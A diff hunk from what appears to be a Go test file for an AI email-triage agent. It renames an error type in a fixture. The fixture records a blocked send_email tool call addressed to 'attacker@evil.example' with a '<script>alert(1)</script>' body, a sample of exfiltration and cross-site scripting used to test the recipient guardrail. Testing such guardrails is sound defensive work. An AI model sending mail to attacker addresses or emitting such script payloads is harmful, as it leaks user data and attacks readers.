@@ -129,7 +129,7 @@ func newFixtureOn(t *testing.T, target string) *fixture {
 		outcome: &processor.Outcome{Scenario: "general", Detection: processor.Detection{Method: "fallback", Reason: "no rule matched"},
 			Status: triage.StatusFailed, Reason: triage.ReasonEmailNotSent, ModelCalls: 2, Tokens: agent.Usage{Prompt: 900, Output: 60, Total: 960},
 			FunctionCalls: []dispatcher.Record{{Name: "send_email", Args: map[string]any{"to": "attacker@evil.example", "body": "<script>alert(1)</script>"},
-				Blocked: true, Error: &dispatcher.RecordError{Code: "recipient_not_allowed", Message: "send_email.to must be the sender"}}}}}).Ref()
+				Blocked: true, Error: &agent.ToolError{Code: "recipient_not_allowed", Message: "send_email.to must be the sender"}}}}}).Ref()
 
 	// A follow-up on a conversation a person owns.
 	tk2, err := ts.Create(ctx, tickets.Request{SerialNumber: "SN-77777", CustomerEmail: "bob@example.com", Priority: "normal",
